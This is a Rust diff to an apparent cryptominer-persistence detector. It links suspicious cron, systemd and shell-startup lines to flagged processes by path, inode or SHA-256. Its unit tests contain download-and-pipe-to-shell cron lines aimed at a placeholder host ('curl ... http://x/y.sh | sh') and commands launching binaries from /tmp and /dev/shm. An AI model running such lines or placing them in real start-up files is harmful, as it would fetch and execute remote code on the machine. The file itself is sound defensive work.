@@ -5,16 +5,64 @@ use super::{Evidence, Finding, Remedy, Severity, Subject, Technique};
 use crate::collect::persistence::{PersistFile, PersistKind};
 use crate::collect::process::SHELLS;
 use crate::escape::escape;
+use crate::host::BytePath;
 use crate::rules::{Kind, Rules};
 
 /// A process the scan flagged, for linking start-up entries to it.
-#[derive(Debug, Clone)]
+#[derive(Debug, Clone, Default)]
 pub struct Flagged {
     pub pid: i32,
     pub name: String,
     /// Executable path on disk (without " (deleted)"), if it is a file.
-    pub exe: Option<String>,
+    pub exe: Option<Vec<u8>>,
+    /// Device, inode and size of the executable (through `/proc/PID/exe`, so
+    /// a deleted executable has them too).
+    pub exe_id: Option<(u64, u64, u64)>,
+    /// SHA-256 of the executable.
+    pub sha256: Option<String>,
     pub malicious: bool,
+}
+
+/// Device, inode and size of a file.
+pub type Ident = (u64, u64, u64);
+
+/// How the detector learns what a path on the machine is (through the host
+/// layer): device, inode and size; and the SHA-256 of a file.
+pub struct Lookup<'a> {
+    pub stat: &'a dyn Fn(&[u8]) -> Option<Ident>,
+    pub sha256: &'a dyn Fn(&[u8]) -> Option<String>,
+}
+
+impl Lookup<'_> {
+    /// A lookup that knows nothing (fixtures).
+    pub fn none() -> Lookup<'static> {
+        Lookup {
+            stat: &|_| None,
+            sha256: &|_| None,
+        }
+    }
+
+    /// How a command word is the flagged executable, if it is: the exact
+    /// path, the same inode, or the same content. Never a bare name: names
+    /// are the attacker's to choose (a miner called `sleep` must not make every
+    /// `sleep` in a cron script its restarter).
+    pub fn same_program(&self, word: &str, f: &Flagged) -> Option<&'static str> {
+        if !word.starts_with('/') {
+            return None;
+        }
+        if f.exe.as_deref() == Some(word.as_bytes()) {
+            return Some("its exact path");
+        }
+        let (dev, ino, size) = f.exe_id?;
+        let (d, i, sz) = (self.stat)(word.as_bytes())?;
+        if (d, i) == (dev, ino) {
+            return Some("the same file (device and inode)");
+        }
+        if sz == size && f.sha256.is_some() && (self.sha256)(word.as_bytes()) == f.sha256 {
+            return Some("a copy with the same SHA-256");
+        }
+        None
+    }
 }
 
 /// Programs that fetch from the network (and renamed copies miners use).
@@ -38,7 +86,7 @@ fn basename(s: &str) -> &str {
 /// command (after `;`, `&&`, `||`, `|`, `(`, `` ` ``, `$(`, `then`, `do`, ...),
 /// the word after a wrapper (`nohup`, `exec`, `setsid`, `nice`, `sudo`, `env`),
 /// and the script a shell is given (`sh /tmp/x.sh`).
-fn executed_words(cmd: &str) -> Vec<String> {
+pub fn executed_words(cmd: &str) -> Vec<String> {
     let mut spaced = cmd.replace("$(", " ; ");
     for sep in ["&&", "||", ";", "|", "(", ")", "`", "&"] {
         spaced = spaced.replace(sep, " ; ");
@@ -119,17 +167,19 @@ fn commands_of(line: &str, kind: PersistKind, system_crontab: bool) -> Vec<Strin
     }
 }
 
-/// Why a line is bad, if it is: (reasons, strong, linked miner PID). Strong
-/// means it downloads-and-runs or restarts a flagged process; a program run
-/// from a temporary place alone is reported but not removed from a whole
-/// script or unit by `quarry fix`.
+/// Why a line is bad, if it is: (reasons, strong, linked miner PID, content).
+/// Strong means it downloads-and-runs or restarts a malicious process; a
+/// program run from a temporary place alone is reported but not removed from a
+/// whole script or unit by `quarry fix`. `content` is true when the line is
+/// bad by what it says (download and run), not only by a link.
 fn judge_line(
     line: &str,
     kind: PersistKind,
     system_crontab: bool,
     temp_dirs: &[&str],
     flagged: &[Flagged],
-) -> (Vec<String>, bool, Option<i32>) {
+    lookup: &Lookup,
+) -> (Vec<String>, bool, Option<i32>, bool) {
     let mut reasons = Vec::new();
     let mut strong = false;
     let mut linked = None;
@@ -148,7 +198,8 @@ fn judge_line(
             .is_some_and(|t| SHELLS.contains(&basename(t)))
     });
     let b64 = line.contains("base64 -d") || line.contains("base64 --decode");
-    if (downloads || b64) && piped_shell {
+    let content = (downloads || b64) && piped_shell;
+    if content {
         strong = true;
         reasons.push(if downloads {
             "downloads code and pipes it into a shell".to_string()
@@ -167,14 +218,13 @@ fn judge_line(
             escape(t.as_bytes())
         ));
     }
-    // 3. Names a flagged executable or process.
+    // 3. Runs a flagged executable: by exact path, inode or content only.
     for f in flagged {
-        let by_path = f.exe.as_ref().is_some_and(|e| line.contains(e.as_str()));
-        let by_name = f.name.len() >= 4 && commands.iter().any(|t| basename(t) == f.name);
-        if by_path || by_name {
+        let how = commands.iter().find_map(|t| lookup.same_program(t, f));
+        if let Some(how) = how {
             reasons.push(format!(
-                "starts {}, the {} process PID {}",
-                escape(f.exe.as_deref().unwrap_or(&f.name).as_bytes()),
+                "starts {} ({how}), the {} process PID {}",
+                escape(f.exe.as_deref().unwrap_or(f.name.as_bytes())),
                 if f.malicious { "miner" } else { "suspicious" },
                 f.pid
             ));
@@ -184,11 +234,16 @@ fn judge_line(
             }
         }
     }
-    (reasons, strong, linked)
+    (reasons, strong, linked, content)
 }
 
 /// Findings for every start-up file.
-pub fn findings(files: &[PersistFile], flagged: &[Flagged], rules: &Rules) -> Vec<Finding> {
+pub fn findings(
+    files: &[PersistFile],
+    flagged: &[Flagged],
+    rules: &Rules,
+    lookup: &Lookup,
+) -> Vec<Finding> {
     let temp: Vec<&str> = rules.values(Kind::TempDir).collect();
     let mut out = Vec::new();
     for f in files {
@@ -200,8 +255,8 @@ pub fn findings(files: &[PersistFile], flagged: &[Flagged], rules: &Rules) -> Ve
                 continue;
             }
             let system_crontab = f.kind == PersistKind::Crontab && f.path.starts_with("/etc/");
-            let (reasons, strong, linked) =
-                judge_line(line, f.kind, system_crontab, &temp, flagged);
+            let (reasons, strong, linked, content) =
+                judge_line(line, f.kind, system_crontab, &temp, flagged, lookup);
             if reasons.is_empty() {
                 continue;
             }
@@ -217,17 +272,20 @@ pub fn findings(files: &[PersistFile], flagged: &[Flagged], rules: &Rules) -> Ve
             } else if whole_file {
                 if f.kind == PersistKind::SystemdUnit {
                     remedies.push(Remedy::DisableUnit {
-                        path: f.path.clone(),
+                        path: BytePath::new(f.path.as_bytes()),
                     });
                 }
                 remedies.push(Remedy::QuarantineFile {
-                    path: f.path.clone(),
+                    path: BytePath::new(f.path.as_bytes()),
+                    id: None,
+                    direct: content,
                 });
             } else {
                 remedies.push(Remedy::RemoveLine {
-                    path: f.path.clone(),
+                    path: BytePath::new(f.path.as_bytes()),
                     line: lineno,
                     content: line.to_string(),
+                    id: None,
                 });
             }
             let what = match f.kind {
@@ -316,77 +374,122 @@ mod tests {
     #[test]
     fn lines() {
         let temp = ["/tmp/", "/dev/shm/"];
-        let (r, strong, _) = judge_line(
+        let (r, strong, _, _) = judge_line(
             "*/5 * * * * curl -fsSL http://x/y.sh | sh",
             PersistKind::Crontab,
             false,
             &temp,
             &[],
+            &Lookup::none(),
         );
         assert_eq!(r, vec!["downloads code and pipes it into a shell"]);
         assert!(strong);
-        let (r, _, _) = judge_line(
+        let (r, _, _, _) = judge_line(
             "* * * * * wge -q -O - http://x|bash",
             PersistKind::Crontab,
             false,
             &temp,
             &[],
+            &Lookup::none(),
         );
         assert_eq!(r.len(), 1);
-        let (r, _, _) = judge_line(
+        let (r, _, _, _) = judge_line(
             "17 * * * * root cd / && run-parts --report /etc/cron.hourly",
             PersistKind::Crontab,
             true,
             &temp,
             &[],
+            &Lookup::none(),
         );
         assert!(r.is_empty());
         let f = Flagged {
             pid: 7,
             name: "minerd".into(),
-            exe: Some("/tmp/minerd".into()),
+            exe: Some(b"/tmp/minerd".to_vec()),
+            exe_id: Some((1, 2, 3)),
+            sha256: Some("ab".into()),
             malicious: true,
         };
-        let (r, _, l) = judge_line(
+        let (r, _, l, _) = judge_line(
             "* * * * * root /tmp/minerd",
             PersistKind::Crontab,
             true,
             &temp,
-            &[f],
+            std::slice::from_ref(&f),
+            &Lookup::none(),
         );
         assert_eq!(l, Some(7));
         assert_eq!(r.len(), 2, "{r:?}");
+        // A bare name is never a link, even the miner's own name.
+        let sleep = Flagged {
+            name: "sleep".into(),
+            exe: Some(b"/tmp/sleep".to_vec()),
+            ..f.clone()
+        };
+        let (r, strong, l, _) = judge_line(
+            "*/5 * * * * root sleep 5; minerd; /usr/bin/sleep 1",
+            PersistKind::Crontab,
+            true,
+            &temp,
+            &[sleep, f.clone()],
+            &Lookup::none(),
+        );
+        assert!(r.is_empty() && !strong && l.is_none(), "{r:?}");
+        // The same inode under another name, or a copy with the same content.
+        let lookup = Lookup {
+            stat: &|p| match p {
+                b"/usr/local/bin/helper" => Some((1, 2, 3)),
+                b"/opt/copy" => Some((9, 9, 3)),
+                _ => Some((5, 5, 5)),
+            },
+            sha256: &|p| (p == b"/opt/copy").then(|| "ab".to_string()),
+        };
+        for line in ["@reboot /usr/local/bin/helper", "@reboot /opt/copy -q"] {
+            let (_, _, l, _) = judge_line(
+                line,
+                PersistKind::Crontab,
+                false,
+                &temp,
+                std::slice::from_ref(&f),
+                &lookup,
+            );
+            assert_eq!(l, Some(7), "{line}");
+        }
         // Arguments are not programs: x11-common creates /tmp/.X11-unix.
-        let (r, _, _) = judge_line(
+        let (r, _, _, _) = judge_line(
             "    mkdir -p /tmp/.X11-unix && chmod 1777 /tmp/.X11-unix",
             PersistKind::InitScript,
             false,
             &temp,
             &[],
+            &Lookup::none(),
         );
         assert!(r.is_empty(), "{r:?}");
-        let (r, _, _) = judge_line(
+        let (r, _, _, _) = judge_line(
             "ExecStart=/usr/lib/systemd/systemd-user-runtime-dir start %i",
             PersistKind::SystemdUnit,
             false,
             &temp,
             &[],
+            &Lookup::none(),
         );
         assert!(r.is_empty());
-        let (r, _, _) = judge_line(
+        let (r, _, _, _) = judge_line(
             "ExecStart=/bin/sh -c 'nohup /dev/shm/.x/kworker >/dev/null'",
             PersistKind::SystemdUnit,
             false,
             &temp,
             &[],
+            &Lookup::none(),
         );
         assert_eq!(r.len(), 1, "{r:?}");
-        let (r, _, _) = judge_line(
+        let (r, _, _, _) = judge_line(
             "[ -x /tmp/up ] && /tmp/up &",
             PersistKind::ShellStartup,
             false,
             &temp,
             &[],
+            &Lookup::none(),
         );
         assert_eq!(r.len(), 1, "{r:?}");
     }
